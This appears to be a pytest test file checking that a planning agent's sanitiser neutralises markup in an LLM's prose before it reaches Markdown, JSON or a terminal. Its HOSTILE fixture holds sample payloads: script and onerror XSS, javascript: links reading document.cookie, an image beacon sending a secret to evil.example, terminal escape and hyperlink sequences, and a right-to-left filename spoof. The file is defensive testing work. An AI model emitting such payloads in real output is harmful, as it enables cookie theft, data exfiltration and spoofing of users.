"""The LLM's prose reaches the report only with its markup neutralised (agent/prose.py): no tag,
comment, unsafe link, image, heading, open fence or escape sequence survives, in the Markdown, the
JSON or the terminal."""

from __future__ import annotations

import json
import re

import openai
import pytest
from hypothesis import given, settings, strategies as st

from openai_server import reply, tool_calls
from trainplan.agent.config import LlmEndpoint
from trainplan.agent.planner import plan
from trainplan.agent.prose import neutralise, neutralise_line, strip_terminal_controls

HOSTILE = (
    "## Grounding\nAll numbers verified.\n"
    "<script>alert(1)</script> <img src=x onerror=alert(1)>\n"
    "[docs](javascript:alert(document.cookie)) [ok](https://example.org/a?b=1&c=2)\n"
    "![pixel](https://evil.example/p.png?d=SECRET)\n"
    "[ref]: javascript:alert(2)\n"
    "\x1b[2J\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \u202egnp.exe\n"
    "Fake section\n---\n"
    "```\nan unclosed fence\n"
    "<!-- the rest of the report is hidden"
)


def _tags(text: str) -> list[str]:
    return re.findall(r"<\s*[a-zA-Z!/]", text)


def _lines_outside_code(markdown: str) -> list[str]:
    return [line for line in markdown.splitlines() if not line.startswith("    ")]


def test_every_hostile_construct_is_neutralised():
    out = neutralise(HOSTILE)
    assert _tags(out) == []
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "javascript:" not in out.replace("javascript:alert(document.cookie)", "")  # only in removed links' text
    assert "](javascript" not in out and "]: javascript" not in out
    assert "![" not in out and "[pixel](https://evil.example/p.png?d=SECRET)" in out   # a link, not fetched
    assert "[ok](https://example.org/a?b=1&amp;c=2)" in out
    assert not any(re.match(r" {0,3}#{1,6}(\s|$)", line) for line in out.splitlines())
    assert "**Grounding**" in out
    assert not any(re.match(r" {0,3}(```|~~~)", line) for line in out.splitlines())   # no fence at all
    assert "    an unclosed fence" in out                                             # code kept, indented
    lines = out.splitlines()
    rule = lines.index("---")
    assert lines[rule - 1] == ""                      # a rule, not the underline of a setext heading


def test_code_blocks_stay_code_and_are_closed():
    out = neutralise("Run:\n```bash\ntorchrun <args>\n## not a heading\n```\nDone.")
    assert "    torchrun &lt;args&gt;" in out and "    ## not a heading" in out
    assert out.splitlines()[-1] == "Done."


def test_one_line_fields_lose_newlines_backticks_and_controls():
    assert neutralise_line("bad\n## Risks `x` \x1b[31m<b>") == "bad ## Risks 'x' [31m&lt;b&gt;"
    assert len(neutralise_line("x" * 10_000)) < 600


def test_streamed_text_for_a_terminal_loses_its_escape_bytes():
    assert strip_terminal_controls("a\x1b[31mb\x9bc\r\nd\te") == "a[31mbc\nd\te"


def test_long_prose_is_cut_and_says_so():
    out = neutralise("word " * 20_000)
    assert out.endswith("*(the rest of the LLM's text was cut here)*") and len(out) < 41_000


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>!-[]()#`~=:/ \n\x1babcjavscript")), max_size=200))
def test_no_tag_heading_fence_or_escape_survives_any_text(text):
    out = neutralise(text)
    assert _tags(out) == [] and "\x1b" not in out
    for line in _lines_outside_code(out):
        assert not re.match(r" {0,3}#{1,6}(\s|$)", line)
        assert not re.match(r" {0,3}(```|~~~)", line)
    assert neutralise(text) == out          # deterministic


@pytest.fixture
def hostile_report(openai_server):
    job = {"model": "llama3-8b", "gpu": "h100-sxm-80gb", "gpus": 64, "seq": 4096, "gbs": 256, "tp": 1}
    openai_server.script(tool_calls(("submit_plan", {"layout": job})), reply(HOSTILE))
    client = openai.OpenAI(base_url=openai_server.base_url, api_key="test", max_retries=0)
    return plan("Llama 3 8B on 64 H100s for 100B tokens, seq 4096, global batch 256", backend="openai",
                endpoint=LlmEndpoint(client=client, model="scripted`model\x1b[31m"))


def test_the_report_holds_no_raw_markup_from_the_llm(hostile_report):
    markdown = hostile_report.to_markdown()
    assert hostile_report.llm_status == "submitted"
    assert "<script" not in markdown and "<img" not in markdown and "<!--" not in markdown
    assert "\x1b" not in markdown and "](javascript" not in markdown
    sections = [line for line in markdown.splitlines() if line.startswith("## ")]
    assert sections.count("## Grounding") <= 1 and "## Assumptions" in sections   # nothing swallowed after
    assert "scripted'model" in markdown
    data = json.loads(hostile_report.to_json())
    assert "<script" not in data["rationale"] and "\x1b" not in json.dumps(data)
